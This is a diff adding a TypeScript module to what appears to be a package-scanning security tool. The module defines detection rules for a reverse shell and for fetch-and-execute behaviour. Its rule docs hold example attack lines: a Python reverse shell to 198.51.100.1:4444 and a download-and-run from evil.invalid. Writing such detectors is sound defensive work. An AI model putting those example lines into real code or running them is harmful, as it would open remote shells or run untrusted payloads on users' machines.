@@ -1,0 +1,55 @@
+import type { Severity } from '../model/finding.js';
+import type { RuleDoc } from '../model/rule.js';
+import { WHEN, isUnasked } from './combination.js';
+import { BUILD_TOOLS, SHELL, commandTraits } from './commands.js';
+import type { Sighting } from './machine-parts.js';
+
+/** Two behaviours of one file, neither of which says enough alone. */
+export interface PairCombination {
+  readonly doc: RuleDoc;
+  readonly first: (sighting: Sighting) => boolean;
+  /** The one the finding points at. */
+  readonly second: (sighting: Sighting) => boolean;
+  readonly severity: (second: Sighting) => Severity | undefined;
+  readonly message: (first: Sighting, second: Sighting) => string;
+}
+
+const isSocket = ({ behaviour, host, name }: Sighting): boolean =>
+  behaviour === 'contacts' && host !== undefined && /^socket\./.test(name);
+
+const fetches = ({ behaviour, host, labels, text }: Sighting): boolean =>
+  (behaviour === 'writes-program' && labels.has('network')) ||
+  (behaviour === 'contacts' && host !== undefined && /retrieve$|download$/.test(text ?? '')) ||
+  (behaviour === 'starts-process' && host !== undefined && commandTraits(text ?? '').has('fetches'));
+
+export const PAIR_COMBINATIONS: readonly PairCombination[] = [
+  {
+    doc: {
+      id: 'shell-opened-to-outside',
+      title: 'Connects to a fixed address and starts a shell',
+      why: 'A shell tied to a connection lets whoever is at the other end type commands on your machine.',
+      remedy: 'Do not install the package. If it ran, treat the machine as taken over.',
+      example: 's.connect(("198.51.100.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("sh")',
+      technique: 'T1059.004',
+    },
+    first: isSocket,
+    second: ({ behaviour, text }) => behaviour === 'starts-process' && SHELL.test(text ?? ''),
+    severity: ({ reach }) => (isUnasked(reach) ? 'CRITICAL' : 'HIGH'),
+    message: (_first, { name, reach }) => `${name} starts a shell beside a fixed connection ${WHEN[reach]}`,
+  },
+  {
+    doc: {
+      id: 'fetched-file-and-start',
+      title: 'Fetches a file and starts a program',
+      why: 'A file from the network is written to disk and something is started right after: what runs was never part of the package.',
+      remedy: 'Do not install the package.',
+      example: 'open("a.exe", "wb").write(urlopen("https://evil.invalid/a").read()); os.system("a.exe")',
+      technique: 'T1105',
+    },
+    first: fetches,
+    second: (sighting) =>
+      sighting.behaviour === 'starts-process' && !fetches(sighting) && !BUILD_TOOLS.test(sighting.text ?? ''),
+    severity: ({ reach }) => (isUnasked(reach) ? 'CRITICAL' : undefined),
+    message: (first, { name, reach }) => `${first.name} fetches and ${name} starts ${WHEN[reach]}`,
+  },
+];
